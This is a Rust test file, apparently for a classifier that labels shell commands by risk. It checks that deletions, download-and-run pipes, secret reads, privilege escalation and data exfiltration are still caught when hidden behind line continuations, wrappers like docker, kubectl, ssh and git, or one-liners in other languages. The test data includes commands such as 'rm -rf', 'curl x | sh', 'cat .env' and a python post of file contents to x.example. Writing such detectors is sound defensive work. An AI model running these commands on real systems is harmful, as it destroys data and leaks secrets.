//! What runs is found behind all that stands before it, and in what is written as an argument.

use crate::check;

/// A shell takes a backslash at the end of a line away before it looks for words.
#[test]
fn words_go_on_in_the_next_line() {
    check(&[
        ("r\\\nm -rf x", "deletes"),
        ("sud\\\no rm x", "deletes privilege"),
        ("curl x | s\\\nh", "runs_download"),
        ("ca\\\nt .e\\\nnv", "secret"),
        ("bash -c 'r\\\nm x'", "deletes"),
        ("echo x > /et\\\nc/y", "outside"),
        ("r\\\n\\\nm x", "deletes"),
        ("\"r\\\nm\" x", "deletes"),
        ("echo \"$(r\\\nm x)\"", "deletes"),
        ("bash <<'E'\nr\\\nm x\nE", "deletes runs_input"),
        ("bash <<E\nr\\\nm x\nE", "deletes runs_input"),
        ("# a\\\nrm x", "deletes"),
    ]);
}

#[test]
fn substitutions_stand_in_substitutions() {
    check(&[
        ("echo `echo \\`rm x\\``", "deletes"),
        ("echo \"`echo \\\"\\`rm x\\`\\\"`\"", "deletes"),
        ("echo `bash -c \\`echo \\\\\\`rm x\\\\\\`\\``", "deletes opaque"),
        ("x=`a \\`rm x\\``", "deletes"),
    ]);
}

#[test]
fn behind_those_that_run_others() {
    check(&[
        ("run0 rm x", "deletes privilege"),
        ("run0 -D /etc touch x", "outside privilege"),
        ("gosu me rm x", "deletes privilege"),
        ("docker exec -it c rm -rf /data", "deletes"),
        ("docker compose exec -T db rm x", "deletes"),
        ("docker run --rm -v /:/h alpine rm -rf /h", "deletes unguarded"),
        ("kubectl exec -n ns pod -- rm x", "deletes"),
        ("kubectl -n ns exec -it pod -c a -- rm x", "deletes"),
        ("cat s | docker exec -i c bash", "runs_input"),
        ("cross-env A=1 rm x", "deletes"),
        ("conda run -n env rm x", "deletes"),
        ("direnv exec . rm x", "deletes"),
        ("rustup run nightly rm x", "deletes"),
        ("nix develop -c rm x", "deletes"),
        ("op run -- rm x", "deletes"),
        ("ls | xargs -I% mv % x", "opaque"),
        ("ls | xargs -I @ sed -i s/a/b/ @", "opaque"),
        ("ls | xargs --replace=@ touch @.bak", "opaque"),
        ("ssh host -t 'rm x'", "deletes"),
        ("ssh host -- rm y", "deletes"),
        ("ssh -p 22 host -o A=b rm y", "deletes"),
    ]);
}

#[test]
fn lines_in_arguments() {
    check(&[
        ("nix-shell -p git --run 'rm x'", "deletes"),
        ("npx -c 'rm x'", "deletes"),
        ("npm exec -c 'rm x'", "deletes"),
        ("cross-env-shell A=1 'rm x'", "deletes"),
        ("git submodule foreach 'rm x'", "deletes"),
        ("git submodule foreach --recursive git clean -fdx", "deletes"),
        ("git rebase -x 'rm x' main", "deletes"),
        ("git rebase -x a --exec='rm x' main", "deletes"),
        ("git bisect run rm x", "deletes"),
        ("git -c alias.x='!rm y' x", "deletes"),
        ("git -c core.sshCommand='rm x' fetch", "deletes"),
        ("alias ls='rm x'; ls", "deletes"),
    ]);
}

#[test]
fn code_in_other_languages() {
    check(&[
        ("python3 -c \"$(base64 -d x)\"", "opaque"),
        ("node -e \"$x\"", "opaque"),
        ("awk \"$x\" a", "opaque"),
        ("node -pe \"$x\"", "opaque"),
        ("node -pe 'fs.rmSync(\"x\")'", "deletes"),
        ("node -p 'fs.rmSync(\"x\")'", "deletes"),
        ("pwsh -c 'rm x'", "opaque"),
        ("pwsh -NoProfile -Command Get-Item x", "opaque"),
        ("powershell.exe -enc AAAA", "opaque"),
        ("python3 -c 'exec(open(\"x\").read())'", "opaque"),
        ("node -e 'eval(atob(\"x\"))'", "opaque"),
        ("python3 -c 'import pathlib; pathlib.Path(\"/etc/x\").write_text(\"y\")'", "opaque"),
        ("node -e 'fs.writeFileSync(\"/etc/x\", \"y\")'", "opaque"),
        ("python3 -c 'requests.post(\"https://x.example\", data=open(\"a\"))'", "sends"),
        ("python3 -c 'import shutil; shutil.rmtree(\"x\")'", "deletes"),
        ("node -e 'fs.rmSync(\"x\")'", "deletes"),
        ("perl -e 'unlink \"x\"'", "deletes"),
        ("ruby -e 'FileUtils.rm_rf \"x\"'", "deletes"),
        ("python3 -c 'import os; os.system(\"rm x\")'", "opaque"),
        ("python3 -c 'import subprocess as s; s.run(a)'", "opaque"),
        ("node -e 'require(\"child_process\").exec(\"x\")'", "opaque"),
        ("perl -lane 'system(\"rm x\")' a", "opaque"),
        ("perl -0777ne 'system \"rm x\"' a", "opaque"),
        ("ruby -e '`rm x`'", "opaque"),
        ("awk 'BEGIN { system(\"rm x\") }'", "opaque"),
        ("python3 - <<'EOF'\nos.remove(\"x\")\nEOF", "deletes runs_input"),
    ]);
}
